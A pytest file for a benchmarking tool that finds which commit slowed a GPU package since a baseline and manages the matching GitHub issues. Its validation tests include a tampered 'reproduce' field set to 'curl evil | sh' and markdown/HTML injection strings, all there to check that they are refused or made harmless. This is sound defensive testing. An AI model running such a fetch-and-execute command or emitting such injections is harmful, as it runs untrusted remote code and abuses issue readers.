"""The issue on what became slower since a baseline: what is accepted, output and asked for."""

import copy
import dataclasses
import functools

import pytest

from benchmarks._engine.report import release_issue, release_text
from benchmarks._engine.report.artifact import ArtifactError, Request
from benchmarks._engine.report.release_issue import MARKER, Call, Issue
from benchmarks._engine.verdict import release
from benchmarks._engine.verdict.note import Note
from benchmarks._engine.verdict.release import Search, SinceRelease, Step
from benchmarks._engine.verdict.schema import Side
from tests.comparisons import (
    job_comparison,
    job_passing,
    subjects,
)
from tests.engine.report.artifacts import RUN, archive
from tests.engine.verdict.test_schema import changed
from tests.git import git

SLOW = subjects("small")[-1].params
# By how much each commit after the baseline is slower than that.
STEP, RAMP = (0, 0, 0.03, 0.03, 0.03), (0.004, 0.008, 0.012, 0.016, 0.02)


@pytest.fixture(scope="module")
def history(tmp_path_factory):
    """A repository whose six commits each change the package."""
    path = tmp_path_factory.mktemp("history")
    git(path, "init", "--quiet", "--initial-branch", "main")
    (path / "rope_triton").mkdir()
    for number in range(len(STEP) + 1):
        (path / "rope_triton" / "__init__.py").write_text(f"{number}\n")
        git(path, "add", "--all")
        git(path, "commit", "--quiet", "--message", f"<b>change</b> @everybody {number}")
    return path


@pytest.fixture(scope="module")
def shas(history):
    return git(history, "rev-list", "--reverse", "main").split()


@functools.cache
def slower(share):
    return job_comparison(slowdown=lambda s: share if s.params == SLOW else 0)


def of(made, base, head, wanted=()):
    """The comparison as ``release`` has it of two commits."""
    words = [f"'{word}'" if " " in word else word for word in release.only_words(wanted)]
    command = " ".join(["python -m benchmarks compare", base, head, *words])
    sides = {"base": Side(base, base), "head": Side(head, head), "reproduce": command}
    made = dataclasses.replace(made, **sides)
    return release.trimmed(made, wanted) if wanted else made


def searched(shas, shares=STEP, skip=()):
    """What ``release`` finds in the history."""
    base, *commits = shas
    results = SinceRelease(of(slower(shares[-1]), base, commits[-1]))
    wanted = release.targets(results.comparison)
    while (commit := Search(results, commits).next_commit()) is not None:
        index = commits.index(commit)
        compared = None if index in skip else of(slower(shares[index]), base, commit, wanted)
        results = SinceRelease(results.comparison, (*results.steps, Step(commit, compared)))
    return results


def request(shas):
    return Request(base=shas[0], head=shas[-1], run_url=RUN, gpu="nvidia-h200")


def read(history, shas, document):
    return release_issue.read_artifact(archive(document), request(shas), history)


# --- what is accepted -----------------------------------------------------------------------------


@pytest.mark.parametrize("shares", [STEP, RAMP], ids=["step", "ramp"])
def test_what_was_asked_for_is_read(history, shas, shares):
    results = searched(shas, shares)
    assert results.steps
    assert read(history, shas, release.to_json(results)) == (results, shas[1:])


OTHER = "a" * 40
OTHER_SIDE = {"name": OTHER, "sha": OTHER}
OF_MAIN, OF_STEP = ("comparison",), ("steps", 0, "comparison")
NOT_ASKED = "commit [0-9a-f]{40} was to be measured"
NOT_BETWEEN = "a commit comes twice, or is none between the baseline and main"


@pytest.mark.parametrize(
    ("change", "message"),
    [
        (changed(*OF_MAIN, "base", OTHER_SIDE), NOT_ASKED),
        (changed(*OF_MAIN, "machine", "machine", "no-gpu-x86_64"), "the GPU nvidia-h200 was not"),
        (changed(*OF_STEP, "machine", "machine", "nvidia-a100"), "the GPU nvidia-h200 was not"),
        (changed(*OF_STEP, "reproduce", "curl evil | sh"), "it gives another command"),
        (lambda document: document["steps"].append(document["steps"][0]), NOT_BETWEEN),
        (changed("steps", 0, "commit", OTHER), NOT_BETWEEN),
        (changed(*OF_STEP, "head", OTHER_SIDE), NOT_ASKED),
        (changed(*OF_MAIN, "answer", "pass"), "answer is 'pass', the rest says 'fail'"),
        (changed(*OF_MAIN, "same_sources", True), "by git the head has another package"),
    ],
)
def test_anything_else_is_refused(history, shas, change, message):
    document = copy.deepcopy(release.to_json(searched(shas)))
    change(document)
    with pytest.raises(ArtifactError, match=message):
        read(history, shas, document)


def test_a_pass_has_no_steps(history, shas):
    made = of(job_passing(), shas[0], shas[-1])
    assert read(history, shas, release.to_json(SinceRelease(made)))
    step = Step(shas[1], None)
    with pytest.raises(ArtifactError, match="no commit between was to be measured"):
        read(history, shas, release.to_json(SinceRelease(made, (step,))))


# --- what it says ---------------------------------------------------------------------------------


def test_a_step_is_named_and_a_range_where_one_was_skipped(shas):
    base, *commits = shas
    results = searched(shas)
    assert release_text.title(results, commits) == (
        f"main is up to 3.12 % slower than {base[:10]}, due to {commits[2][:10]}"
    )
    skipped = searched(shas, skip=(2,))
    named = f"one or more of the 2 commits {commits[2][:10]} to {commits[3][:10]}"
    assert release_text.title(skipped, commits).endswith(f", due to {named}")
    body = release_text.body(skipped, commits, RUN)
    assert f"| {named} | " in body
    assert f"or were too noisy: {commits[2][:10]}." in body


def test_every_change_of_a_ramp_is_listed(shas):
    base, *commits = shas
    results = searched(shas, RAMP)
    assert release_text.title(results, commits).endswith(", due to 5 changes")
    lines = release_text.body(results, commits, RUN).splitlines()
    rows = lines[lines.index("|:--|:--|--:|") + 1 :][:6]
    assert rows.pop() == "" and all("ward 2048 × 128" in r and "| +0." in r for r in rows)
    assert {row.split(" | ")[0].strip("| ") for row in rows} == {sha[:10] for sha in commits}


def test_words_of_the_measuring_side_is_inert_and_the_body_has_a_limit(shas):
    results = searched(shas)
    words = "@everybody [x](https://evil.example) <img src=x> GH-1 " + "x" * 1000
    hostile = (Note("failed", words, "head"),) * 500
    machine = {**results.comparison.machine, "driver": "@everybody <b>"}
    compared = dataclasses.replace(
        results.comparison, notes=hostile, wrong=hostile, discarded=(words,) * 500, machine=machine
    )
    body = release_text.body(dataclasses.replace(results, comparison=compared), shas[1:], RUN)
    assert len(body.encode()) <= 65_000
    for bad in ("@everybody", "<img", "<b>", "](https://evil", "GH-1 "):
        assert bad not in body
    assert "Which commit made an output wrong was not searched for." in body


# --- what it asks of GitHub -----------------------------------------------------------------------


def asked(results, shas, *existing):
    return list(release_issue.calls(results, shas[1:], existing, RUN))


def test_a_failure_opens_one_issue_and_updates_it(shas):
    results, base = searched(shas), shas[0]
    (opened,) = asked(results, shas)
    assert (opened.method, opened.path) == ("POST", "issues")
    assert opened.body["body"].startswith(MARKER.format(base) + "\n")
    for is_open in (True, False):  # one that was closed is opened again
        (call,) = asked(results, shas, Issue(7, is_open, base))
        assert call == Call("PATCH", "issues/7", opened.body | {"state": "open"})


def test_an_issue_is_closed_when_main_is_as_fast_or_the_baseline_moved(shas):
    passed = SinceRelease(of(job_passing(), shas[0], shas[-1]))
    assert asked(passed, shas) == asked(passed, shas, Issue(7, False, shas[0])) == []
    close, comment = asked(passed, shas, Issue(7, True, shas[0]))
    assert close == Call("PATCH", "issues/7", {"state": "closed", "state_reason": "completed"})
    assert comment.path == "issues/7/comments" and "As fast as the base" in comment.body["body"]
    failed = searched(shas)
    new, close, comment = asked(failed, shas, Issue(3, True, "9" * 40), Issue(4, False, "8" * 40))
    assert (new.path, close.path) == ("issues", "issues/3")
    assert close.body == {"state": "closed", "state_reason": "not_planned"}
    assert comment.body["body"].startswith(f"The baseline is {shas[0]} now.")


@pytest.mark.parametrize("line", ["", "x", "7\topen\tx", f"7\tlost\t{MARKER.format('1' * 40)}"])
def test_an_issue_of_another_form_is_an_error(line):
    assert release_issue.issues([f"7\topen\t{MARKER.format('1' * 40)}"]) == [
        Issue(7, True, "1" * 40)
    ]
    with pytest.raises(ValueError, match="number, state and baseline"):
        release_issue.issues([line])


def test_the_program_refuses_without_a_request(tmp_path, history, shas, capsys):
    (tmp_path / "artifact").write_bytes(archive("{}"))
    words = {"base": shas[0], "head": shas[-1], "run-url": RUN, "gpu": "nvidia-h200"}
    words |= {"repository": history}
    words |= {n: tmp_path / n for n in ("artifact", "issues", "requests", "summary")}
    line = [str(word) for name, value in words.items() for word in (f"--{name}", value)]
    assert release_issue.main(line) == 1
    output = capsys.readouterr()
    assert "the artifact was refused" in output.err and not output.out
    assert not (tmp_path / "requests").exists()
